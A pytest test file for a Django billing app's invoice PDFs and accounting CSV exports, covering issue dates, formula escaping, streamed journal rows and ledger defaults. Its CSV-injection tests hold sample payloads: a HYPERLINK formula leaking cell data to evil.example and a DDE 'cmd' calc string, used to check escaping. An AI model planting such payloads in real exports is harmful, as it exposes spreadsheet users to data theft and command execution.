"""Audit of the invoice PDFs and the accounting CSV exports (billing/documents.py,
billing/selectors.py, templates/billing/invoice.html).

Worked figures (tariff of tests/billing/factories, VAT 25 %): November 2026, 1.5 MWh:
100.00 subscription + 100.00 capacity + 888.78 energy = 1,088.78 net, 272.20 VAT,
1,360.98 gross; its credit note -1,360.98.
"""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from billing import selectors
from billing.documents import invoice_pdf_render
from billing.models import Invoice
from billing.selectors import invoices_csv, journal_csv, journal_rows
from billing.services.invoices import invoice_credit
from customers.models import Customer
from tariffs.models import TariffVersion
from tests.billing.factories import COMPONENTS, billed_network, tariff_version
from tests.billing.helpers import bill_month, invoice_of
from tests.billing.test_documents import pdf_text

YEAR = dt.date(2026, 1, 1)
ALL_TIME = {"start": dt.date(2020, 1, 1), "end": dt.date(2030, 1, 1)}


def _csv(chunks) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(chunks))))


@pytest.mark.django_db
class TestPdfDates:
    def test_issue_date_is_the_local_date_of_the_networks_time_zone(self):
        # 22:30 UTC on 1 December is 00:30 on 2 December in Helsinki (23:30 on 1 December
        # in Copenhagen, the server's TIME_ZONE)
        network, (contract,) = billed_network(accounts=1)
        network.time_zone = "Europe/Helsinki"
        network.save(update_fields=["time_zone"])
        bill_month(network, now=dt.datetime(2026, 12, 1, 22, 30, tzinfo=dt.UTC))
        invoice = invoice_of(contract)
        assert invoice.due_on == dt.date(2026, 12, 16)  # 14 days after the local issue day
        invoice_pdf_render(invoice=invoice)
        text = pdf_text(invoice)
        assert "Issued: 2026-12-02" in text
        assert "Due: 2026-12-16" in text


@pytest.mark.django_db
class TestCsvInjection:
    """Cells a spreadsheet would read as a formula are exported as text ('=...)."""

    def test_invoice_export_escapes_a_formula_in_the_customer_name(self):
        network, (contract,) = billed_network(accounts=1)
        Customer.objects.filter(pk=contract.account.customer_id).update(
            name='=HYPERLINK("http://evil.example/?"&A1,"Click")'
        )
        bill_month(network)
        invoice_credit(invoice=invoice_of(contract), now=dt.datetime(2026, 12, 3, tzinfo=dt.UTC))
        header, *rows = _csv(invoices_csv(network_id=network.pk, **ALL_TIME))
        customer = header.index("customer")
        assert [r[customer] for r in rows] == [
            '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
        ] * 2
        # amounts stay numbers: the credit note is negative, not escaped
        gross = header.index("gross")
        assert [r[gross] for r in rows] == ["1360.98", "-1360.98"]

    @pytest.mark.parametrize("name", ["+4520304050", "-cmd|' /C calc'!A0", "@SUM(A1:A9)"])
    def test_every_formula_prefix_is_escaped(self, name):
        network, (contract,) = billed_network(accounts=1)
        Customer.objects.filter(pk=contract.account.customer_id).update(name=name)
        bill_month(network)
        header, row = _csv(invoices_csv(network_id=network.pk, **ALL_TIME))
        assert row[header.index("customer")] == f"'{name}"

    def test_journal_escapes_a_formula_in_a_line_text(self):
        network, _ = billed_network(accounts=1)
        # an approved version never changes: a new one from the year
        TariffVersion.objects.filter(tariff__network=network).update(valid_to=YEAR)
        components = [dict(c) for c in COMPONENTS]
        components[0]["description"] = "=1+1"
        tariff_version(network=network, valid_from=YEAR, components=components)
        bill_month(network)
        header, *rows = _csv(journal_csv(network_id=network.pk, **ALL_TIME))
        texts = [r[header.index("text")] for r in rows]
        assert "'=1+1" in texts
        assert "=1+1" not in texts


@pytest.mark.django_db
class TestJournalStreaming:
    def test_journal_reads_invoice_lines_chunk_by_chunk(self, monkeypatch):
        """A large export never holds every invoice's lines at once: lines are read per
        chunk of invoices, and the rows still balance per document."""
        monkeypatch.setattr(selectors, "EXPORT_CHUNK_SIZE", 2, raising=False)
        network, _ = billed_network(accounts=5)
        bill_month(network)
        with CaptureQueriesContext(connection) as queries:
            rows = list(journal_rows(network_id=network.pk, **ALL_TIME))
        line_reads = [q for q in queries if 'FROM "billing_invoiceline"' in q["sql"]]
        assert len(line_reads) == 3  # 5 invoices in chunks of 2
        documents = {r[1] for r in rows}
        assert len(documents) == 5
        for doc in documents:
            debit = sum((r[5] for r in rows if r[1] == doc and r[5] != ""), Decimal(0))
            credit = sum((r[6] for r in rows if r[1] == doc and r[6] != ""), Decimal(0))
            assert debit == credit == Decimal("1360.98")
        assert Invoice.objects.filter(number__isnull=False).count() == 5


@pytest.mark.django_db
def test_a_ledger_setting_for_one_revenue_account_keeps_the_other_defaults(settings):
    """A deployment that books only energy revenue elsewhere still gets the default
    revenue account for the other lines, not a KeyError that cuts the streamed CSV."""
    settings.BILLING = {**settings.BILLING, "LEDGER": {"revenue": {"energy": "4010"}}}
    network, _ = billed_network(accounts=1)
    bill_month(network)

    rows = list(journal_rows(network_id=network.pk, **ALL_TIME))

    assert [(r[2], r[4], r[5], r[6]) for r in rows] == [
        ("1100", "Invoice", Decimal("1360.98"), ""),
        ("3000", "Subscription", "", Decimal("100.00")),
        ("3000", "Capacity charge (above 0 kW)", "", Decimal("100.00")),
        ("4010", "Energy charge", "", Decimal("888.78")),  # 1.5 MWh × 592.52
        ("2610", "VAT 0.2500", "", Decimal("272.20")),  # 25 % of 1,088.78
    ]


@pytest.mark.django_db
def test_journal_amounts_have_two_places_in_a_currency_without_minor_units():
    """ISK has no minor unit: the VAT recorded on the bill reads "272", yet the export
    writes every amount with exactly two places (docs/billing.md)."""
    network, _ = billed_network(accounts=1)
    network.currency = "ISK"
    network.save(update_fields=["currency"])
    bill_month(network)

    header, *rows = _csv(journal_csv(network_id=network.pk, **ALL_TIME))

    amounts = [row[i] for row in rows for i in (header.index("debit"), header.index("credit"))]
    assert [a for a in amounts if a and len(a.partition(".")[2]) != 2] == []
    vat = next(row for row in rows if row[header.index("ledger_account")] == "2610")
    assert vat[header.index("credit")] == "272.00"
